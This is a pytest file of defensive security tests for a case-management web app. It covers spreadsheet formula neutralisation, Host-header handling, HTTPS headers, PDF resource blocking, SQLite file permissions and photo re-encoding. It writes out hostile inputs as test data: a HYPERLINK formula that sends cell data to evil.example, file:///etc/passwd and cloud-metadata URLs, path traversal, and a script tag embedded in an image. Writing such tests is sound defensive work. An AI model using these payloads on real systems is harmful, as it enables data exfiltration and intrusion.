"""What the office's data and its clients cannot turn against it: a formula typed as a name stays
text in the exports, links name the configured address whatever Host came in, production asks
for HTTPS, printed documents load nothing but the app's own files, the SQLite file is the owner's
alone, and an uploaded photo is re-encoded before anyone is served it."""

import csv
import io
import os
import secrets
from dataclasses import replace
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from sqlalchemy import Engine, select, update

from cases.db import make_engine, upgrade
from cases.organisation import wall
from cases.reports import pdf
from cases.reports.exports import neutralise
from cases.runtime import Runtime
from cases.store import tables
from tests.web import (
    PASSWORD,
    api_intake,
    bearer,
    client,
    csrf_of,
    make_app,
    make_web_office,
    sign_in,
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_text(start: str) -> None:
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert neutralise("王建国") == "王建国" and neutralise(-3) == -3


def test_a_formula_typed_as_a_staff_name_is_text_in_csv_and_xlsx(
    engine: Engine, rt: Runtime
) -> None:
    from openpyxl import load_workbook

    make_web_office(engine)
    with engine.begin() as conn:
        conn.execute(
            update(tables.staff_t).where(tables.staff_t.c.staff_no == "A001").values(name=FORMULA)
        )
    app = make_app(engine, rt)
    c = client(app)
    api_intake(app, c)
    auth = bearer(app, "G001")
    xlsx = c.get("/api/v1/stats", params={"format": "xlsx"}, headers=auth)
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content))["统计"]
    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
    assert cells, "the owner's row is in the workbook"
    assert all(cell.data_type == "s" and str(cell.value).startswith("'=") for cell in cells)
    text = c.get("/api/v1/stats", params={"format": "csv"}, headers=auth).content.decode(
        "utf-8-sig"
    )
    names = [v for row in csv.reader(io.StringIO(text)) for v in row if "HYPERLINK" in v]
    assert names and all(v.startswith("'=") for v in names)


def test_the_receipt_names_the_configured_address_not_the_host_header(
    engine: Engine, rt: Runtime
) -> None:
    make_web_office(engine)
    office_rt = Runtime.from_settings(
        replace(rt.settings, base_url="https://xinfang.example.gov.cn")
    )
    app = make_app(engine, office_rt)
    c = client(app)
    case_no = api_intake(app, c)["case_no"]
    sign_in(c, "A001")
    page = c.get(f"/cases/{case_no}/receipt", headers={"Host": "evil.example"}).text
    assert "https://xinfang.example.gov.cn/track" in page
    assert "evil.example" not in page


def test_production_asks_browsers_for_https_only(
    engine: Engine, rt: Runtime, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_web_office(engine)
    # The test office is not a production one (cases/production.py refuses it); the headers are
    # what is under test here.
    monkeypatch.setattr("api.app.refuse_unsafe", lambda *_: None)
    dev = client(make_app(engine, rt)).get("/login")
    assert "strict-transport-security" not in dev.headers
    keys = {"secret_key": secrets.token_bytes(32), "data_key": secrets.token_bytes(32)}
    prod_rt = Runtime.from_settings(replace(rt.settings, env="prod", **keys))
    c = TestClient(make_app(engine, prod_rt), base_url="https://testserver", follow_redirects=False)
    page = c.get("/login")
    assert page.headers["strict-transport-security"] == "max-age=31536000; includeSubDomains"
    signed_in = c.post(
        "/login",
        data={
            "staff_no": "A001",
            "password": PASSWORD,
            "csrf_token": csrf_of(page.text),
            "next": "/",
        },
    )
    assert signed_in.status_code == 303
    cookies = signed_in.headers.get_list("set-cookie")
    assert cookies and all("secure" in cookie.lower() for cookie in cookies), cookies


def test_printed_documents_load_only_the_apps_own_files() -> None:
    templates = Path(pdf.ROOT, "templates", "base.html").as_uri()
    assert pdf.allowed_url(templates)
    assert pdf.allowed_url("data:image/png;base64,iVBORw0KGgo=")
    for url in (
        "file:///etc/passwd",
        templates.replace("templates/base.html", "templates/../../../../etc/passwd"),
        "http://169.254.169.254/latest/meta-data/",
        "https://example.com/x.png",
        "file://otherhost/etc/passwd",
        "ftp://example.com/x",
    ):
        assert not pdf.allowed_url(url), url
    # A refused resource is left out; the PDF is still made.
    html = '<p>测试</p><img src="file:///etc/passwd"><img src="http://127.0.0.1:9/x.png">'
    assert pdf.from_html(html).startswith(b"%PDF")


def test_a_new_sqlite_database_is_its_owners_alone(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'office.db'}"
    upgrade(url)
    engine = make_engine(url)
    with engine.begin() as conn:
        conn.exec_driver_sql("SELECT 1")
    engine.dispose()
    for name in os.listdir(tmp_path):
        assert os.stat(tmp_path / name).st_mode & 0o077 == 0, name
    old = tmp_path / "old.db"
    old.touch(mode=0o644)
    os.chmod(old, 0o644)
    make_engine(f"sqlite:///{old}").dispose()
    assert os.stat(old).st_mode & 0o777 == 0o600


def test_an_uploaded_staff_photo_is_re_encoded(sqlite_engine: Engine) -> None:
    make_web_office(sqlite_engine)
    img = Image.new("RGB", (300, 400), "red")
    exif = Image.Exif()
    exif[0x010E] = "GPS 32.06N 118.79E"  # ImageDescription: something a phone might leave
    sent = io.BytesIO()
    img.save(sent, format="JPEG", exif=exif, comment=b"<script>alert(1)</script>")
    data = sent.getvalue() + b"<html>trailing bytes</html>"
    with sqlite_engine.begin() as conn:
        assert wall.set_staff_photo(conn, staff_no="A001", data=data) == "image/jpeg"
        stored = conn.execute(
            select(tables.staff_t.c.photo).where(tables.staff_t.c.staff_no == "A001")
        ).scalar_one()
    assert stored != data and b"trailing bytes" not in stored and b"<script>" not in stored
    with Image.open(io.BytesIO(stored)) as back:
        assert back.size == (300, 400) and not back.getexif()
    with sqlite_engine.begin() as conn, pytest.raises(Exception) as refused:
        wall.set_staff_photo(conn, staff_no="A001", data=b"\xff\xd8\xff" + b"not a picture")
    assert getattr(refused.value, "code", "") == "photo.unreadable"
